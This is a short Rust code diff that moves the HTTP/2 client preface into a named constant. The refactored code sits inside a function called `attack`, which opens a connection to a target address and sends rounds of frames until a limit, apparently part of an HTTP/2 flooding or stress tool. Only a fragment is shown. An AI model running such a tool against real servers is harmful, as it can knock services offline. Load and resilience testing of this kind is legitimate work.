@@ -29,6 +29,9 @@ pub mod kind {
     pub const CONTINUATION: u8 = 9;
 }
 
+/// What a client begins with (RFC 9113 §3.4).
+pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+
 /// The flag of a frame that is the last of its stream.
 pub const END_STREAM: u8 = 1;
 /// The flag of a frame that ends the fields.
@@ -99,7 +102,7 @@ pub fn attack(address: SocketAddr, settings: &[u8], first: &[u8], most: u32, rou
         })
     };
     stream.set_write_timeout(Some(Duration::from_secs(20))).unwrap();
-    let hello = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", &frame(kind::SETTINGS, 0, 0, settings)[..], first].concat();
+    let hello = [PREFACE, &frame(kind::SETTINGS, 0, 0, settings)[..], first].concat();
     let mut rounds = 0;
     let mut sent = stream.write_all(&hello).is_ok();
     while sent && rounds < most && !over.load(Ordering::SeqCst) {
